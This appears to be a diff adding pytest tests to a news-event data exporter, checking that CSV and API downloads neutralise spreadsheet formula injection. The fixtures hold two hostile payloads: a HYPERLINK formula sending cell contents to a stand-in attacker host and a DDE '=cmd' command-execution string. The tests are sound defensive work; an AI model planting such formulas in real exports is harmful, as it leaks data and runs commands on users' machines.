@@ -79,3 +79,55 @@ def test_gexf_network_opens_as_xml_with_directed_weighted_edges(corpus, tmp_path
 def test_an_unknown_format_is_refused_with_the_allowed_ones(corpus, tmp_path):
     with pytest.raises(CommuniqueError, match="parquet"):
         export(corpus, "events", "xlsx", tmp_path / "x.xlsx")
+
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.attacker.example/?leak="&A1,"Read more")'
+FORMULA_TEXT = "=cmd|' /C calc'!A0 Turkey delivered drones to Azerbaijan on Monday, officials said."
+
+
+@pytest.fixture
+def formula_corpus(tmp_path):
+    """One article whose title and text begin with spreadsheet formulas (its evidence is the whole text)."""
+    from corpus_records import record
+
+    from communique.store import open_store
+
+    path = tmp_path / "formulas.db"
+    with open_store(path) as store:
+        store.write_batch(
+            None, [stored(record(FORMULA_TEXT, "2024-05-06", [("AID", "TUR", "AZE")], title=FORMULA_TITLE))]
+        )
+    return path
+
+
+def _formula_row(rows: list[dict]) -> dict:
+    (row,) = rows
+    return row
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(formula_corpus, tmp_path):
+    from communique.store import open_store
+
+    out = tmp_path / "events.csv"
+    with open_store(formula_corpus) as store:
+        export(store, "events", "csv", out)
+    row = _formula_row(list(csv.DictReader(out.open(encoding="utf-8"))))
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["evidence"] == "'" + FORMULA_TEXT
+    assert row["score"] == "7.0"  # numbers stay numbers
+
+
+def test_api_csv_download_neutralises_formula_cells_too(formula_corpus):
+    import io
+
+    from fastapi.testclient import TestClient
+
+    from communique.api import create_app
+
+    app = create_app(str(formula_corpus), token="t")
+    with TestClient(app, base_url="http://127.0.0.1", client=("127.0.0.1", 50000)) as c:
+        r = c.get("/api/events/export?format=csv")
+    assert r.status_code == 200
+    row = _formula_row(list(csv.DictReader(io.StringIO(r.text))))
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["evidence"] == "'" + FORMULA_TEXT
